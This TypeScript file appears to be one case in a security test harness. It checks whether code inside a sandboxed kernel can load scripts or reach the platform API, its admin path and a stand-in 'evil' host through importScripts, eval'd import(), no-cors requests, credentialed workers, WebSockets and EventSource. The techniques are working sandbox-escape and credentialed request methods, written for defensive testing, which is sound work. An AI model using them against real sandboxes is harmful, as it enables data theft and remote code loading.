import type { Attack } from './harness/attack.js';

export const attack: Attack = {
  title:
    'what a kernel loads without fetch: importScripts, modules, sockets, event streams, workers',
  from: 'kernel',
  script: async ({ platform, evil }, kit) => {
    const seen: unknown[] = [];
    const scope = self as unknown as { importScripts: (url: string) => void };
    for (const base of [`${platform}api/v1/`, `${platform}api/v1/admin/`, evil]) {
      const url = (name: string) => kit.named(name, `${base}x.js`);
      try {
        scope.importScripts(url('importScripts'));
      } catch (error) {
        seen.push({ name: 'importScripts', error: String(error) });
      }
      // As text: what a test runner makes of import() means nothing here.
      const module = (0, eval)(`import(${JSON.stringify(url('import'))})`) as Promise<unknown>;
      seen.push({ name: 'import', outcome: await kit.within(2_000, module.catch(String)) });
      seen.push(await kit.call('no-cors', `${base}x`, { mode: 'no-cors', keepalive: true }));
      seen.push(
        await kit.call('no-cors-post', `${base}x`, { mode: 'no-cors', method: 'POST', body: 'x' }),
      );
      for (const type of ['classic', 'module'] as const) {
        try {
          const options = { type, credentials: 'include', name: 'x' } as const;
          const worker = new Worker(url(`worker-${type}`), options);
          const refused = new Promise((resolve) => {
            worker.onerror = ({ message }) => resolve(message);
          });
          seen.push({ name: `worker-${type}`, outcome: await kit.within(1_000, refused) });
          worker.terminate();
        } catch (error) {
          seen.push({ name: 'worker', error: String(error) });
        }
      }
      const socket = new WebSocket(url('socket').replace('http', 'ws'));
      const closed = new Promise((resolve) => {
        socket.onclose = ({ code, reason }) => resolve({ code, reason });
      });
      seen.push({ name: 'socket', outcome: await kit.within(2_000, closed) });
      const events = new EventSource(kit.named('events', `${base}events`), {
        withCredentials: true,
      });
      const heard = new Promise((resolve) => {
        events.onmessage = ({ data }) => resolve(data);
        events.onerror = () => resolve('error');
      });
      seen.push({ name: 'events', outcome: await kit.within(2_000, heard) });
      events.close();
    }
    return seen;
  },
  gains: ({ api }) =>
    api
      .filter(({ caller, query }) => caller !== undefined && !query.includes('try=events'))
      .map(({ query }) => `called by ${query}`),
  fromWeak: ['called by try=importScripts', 'called by try=import', 'called by try=no-cors'],
};
